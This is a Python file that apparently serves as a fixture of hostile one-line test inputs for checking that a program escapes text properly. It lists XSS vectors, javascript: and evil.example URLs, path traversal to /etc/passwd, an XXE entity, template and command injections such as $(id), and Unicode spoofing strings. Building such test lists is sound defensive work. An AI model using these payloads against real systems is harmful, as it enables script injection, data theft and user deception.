"""Texts that try to become something else than text. Each is one line, and would run `alert(1)` or load something if any
part of the program took it for markup, for an address, for JSON or for a template."""

HTML = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script >alert(1)</script >", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>", "<script type=module>import('https://evil.example/')</script>", "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//", "<IMG SRC=`javascript:alert(1)`>", "<img/src=\"x\"/onerror=alert(1)>", "<img src onerror=alert(1)>",
    "<img srcset='x 1x' onerror=alert(1)>", "<picture><source srcset=x><img onerror=alert(1) src=x></picture>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>", "<video src=x onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<details open ontoggle=alert(1)>x</details>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<button onclick=alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>", "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a onmouseover=alert(1)>x</a>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=//evil.example>", "<style>*{background:url(https://evil.example/)}</style>", "<style>@import 'https://evil.example/';</style>",
    "<div style=\"background:url('https://evil.example/')\">", "<div style=width:expression(alert(1))>", "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)>", "<td background=javascript:alert(1)>", "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<frameset onload=alert(1)>", "<portal src=https://evil.example>",
    "<dialog open onclose=alert(1)>", "<x onclick=alert(1)>", "<x-y is=script>", "<br onclick=alert(1)>", "<del onmouseover=alert(1)>x</del>",
    "<sup style=x>2</sup>", "<s id=innehall>x</s>", "<del/onclick=alert(1)>x", "<br/><script>alert(1)</script>", "<!--", "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>", "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>",
    "<?xml version='1.0'?>", "<?php echo 1 ?>", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "<!ENTITY x \"y\">",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</body></html><script>alert(1)</script>", "</main></div></article>", "</p></li></ul></td></tr></table>", "<plaintext>", "<xmp><script>alert(1)</script>",
]
ATTRIBUTES = [
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" autofocus onfocus=alert(1) x=\"",
    "\"/><img src=x onerror=alert(1)>", "x\" style=\"color:red", "` onmouseover=`alert(1)", "\\\" onmouseover=alert(1) \\\"", "&quot; onmouseover=&quot;alert(1)",
    "\"></a><a href=\"javascript:alert(1)", "' id='innehall' x='", "\" http-equiv=\"refresh\" content=\"0;url=//evil.example", "x onerror=alert(1)",
]
SVG = [
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#x></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><style>@import'https://evil.example'</style></svg>", "<svg><image href=x onerror=alert(1)></svg>", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math href=javascript:alert(1)>x</math>",
]
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript://x.example/%0Aalert(1)", "java%73cript:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "&#106;&#97;&#118;&#97;script:alert(1)", "&#x6A;avascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    " javascript:alert(1)", "\\javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "DATA:text/html,x", "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "///evil.example",
    "https:evil.example", "https:/evil.example", "https://bank.example@evil.example/", "https://user:pass@evil.example/", "http://[::1]/", "blob:https://evil.example/x",
    "filesystem:https://evil.example/x", "view-source:https://evil.example", "ftp://evil.example/x", "tel:112", "sms:112", "intent://x#Intent;end", "ws://evil.example",
    "about:blank", "livescript:x", "mocha:x", "feed:javascript:alert(1)", "jar:https://evil.example!/x", "mailto:?body=x&attach=/etc/passwd", "../../../../etc/passwd",
    "%2e%2e/%2e%2e/etc/passwd", "..\\..\\x", "?q=<script>alert(1)</script>", "#\"><script>alert(1)</script>", "#innehall\" onclick=\"alert(1)", "x\" onclick=\"alert(1)",
    "https://a.example/\" onclick=\"alert(1)", "https://a.example/'onclick='alert(1)", "https://a.example/<script>", "https://a.example/)](javascript:alert(1))",
    "javascript\u00a0:alert(1)", "\u200bjavascript:alert(1)", "j\u0430vascript:alert(1)", "\uff4aavascript:alert(1)",
]
MARKDOWN = [
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "![x](javascript:alert(1))", "![x\" onerror=\"alert(1)](x)", "[x](https://a.example \"\\\" onclick=alert(1)\")",
    "[x](https://a.example '\"onclick=alert(1)')", "<javascript:alert(1)>", "<https://a.example/\"onclick=alert(1)>", "[a]: javascript:alert(1)", "[x][a] [a]: data:text/html,x",
    "[![x](javascript:1)](javascript:alert(1))", "[x](data:text/html;base64,PHN2Zz4=)", "`</code><script>alert(1)</script>`", "``` \"><script>alert(1)</script>",
    "~~~ js\" onload=\"alert(1)", "**<b onclick=alert(1)>**", "[<img src=x onerror=alert(1)>](https://a.example)", "[x](&#x6a;avascript:alert(1))", "[x](\\javascript:alert(1))",
    "| <script>alert(1)</script> |", "# <svg onload=alert(1)>", "> <iframe src=x>", "- <img src=x onerror=alert(1)>", "![](https://evil.example/pixel.png)", "---", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script\\>alert(1)\\</script\\>", "&NotExisting; &#0; &#xD800; &#1114112;", "&#x202e;tpircs",
]
JSON = [
    "\",\"x\":\"", "\\", "\\\"", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\u0022,\\u0022x", "}{", "]}", "null", "true", "1e999", "-0", "\u2028alert(1)", "\u2029alert(1)", "__proto__",
    "constructor", "prototype", "toString", "hasOwnProperty", "{\"$ref\":\"https://evil.example\"}", "'; alert(1); //", "*/alert(1)/*", "${alert(1)}", "`${alert(1)}`",
]
TEMPLATES = [
    "{{siteName}}", "{{{mainHTML}}}", "{{&siteName}}", "{{#meetings}}x{{/meetings}}", "{{^x}}x{{/x}}", "{{>layout}}", "{{<layout}}{{/layout}}", "{{!x}}", "{{=<% %>=}}", "<% x %>", "{{",
    "}}", "{{{", "{{$main}}x{{/main}}", "{{#x}}", "{{/x}}", "{% include 'x' %}", "{{constructor.constructor('alert(1)')()}}", "#{7*7}", "<#assign x=1>", "{{last()}}", "%s%n%x", "%@", "$(id)", "`id`", "| id",
]
CSS = ["expression(alert(1))", "}*{background:url(https://evil.example/)}", "url(javascript:alert(1))", "@import url(https://evil.example/);", "behavior:url(x.htc)", "\\3c script>"]
UNICODE = [
    "abc\u202egpj.exe", "\u2066rtl\u2069", "\u202d", "a\u200bb\u200cc\u200dd", "\ufeffx", "\u00ad", "ＡＬＥＲＴ", "ﬁ ﬂ ß ŉ ǆ", "A\u030a\u0327\u0301" + "\u0301" * 40, "İıſK",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0041\U000e0042", "＜script＞alert(1)＜/script＞", "‹script›", "\u02bascript\u02ba", "\u037e \u2024\u2024/", "\u0085x", "\u009bx", "\ufffe", "\uffff",
]

PAYLOADS = HTML + ATTRIBUTES + SVG + ADDRESSES + MARKDOWN + JSON + TEMPLATES + CSS + UNICODE
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 150 and not any("\n" in one for one in PAYLOADS)
